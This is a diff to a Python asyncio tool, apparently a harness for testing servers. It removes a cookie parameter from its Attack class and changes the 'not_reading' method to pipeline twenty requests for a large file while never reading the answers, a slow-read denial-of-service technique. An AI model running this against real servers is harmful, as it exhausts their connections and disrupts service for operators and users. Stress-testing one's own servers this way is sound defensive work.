@@ -83,9 +83,8 @@ class Visitor:
 class Attack:
     """So many connections of one kind from one address; one that the server ends is opened again."""
 
-    def __init__(self, kind: str, port: int, source: str, count: int, *, path: str, cookie: str) -> None:
-        self.port, self.source, self.count = port, source, count
-        self.path, self.cookie = path, cookie
+    def __init__(self, kind: str, port: int, source: str, count: int, *, path: str) -> None:
+        self.port, self.source, self.count, self.path = port, source, count, path
         self.opened = 0
         self._hold: Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]] = KINDS[kind].__get__(
             self
@@ -131,10 +130,9 @@ class Attack:
         await self._drip(reader, writer)
 
     async def not_reading(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
-        """Ask for pages and read nothing of the answers."""
-        ask = f"GET {self.path} HTTP/1.1\r\n".encode() + LINE + f"Cookie: {self.cookie}\r\n\r\n".encode()
+        """Ask for a large file again and again, and read nothing of the answers."""
         writer.transport.pause_reading()  # type: ignore[attr-defined]
-        writer.write(ask)
+        writer.write((f"GET {self.path} HTTP/1.1\r\n".encode() + LINE + b"\r\n") * 20)
         while not writer.is_closing():
             await asyncio.sleep(DRIP)
 
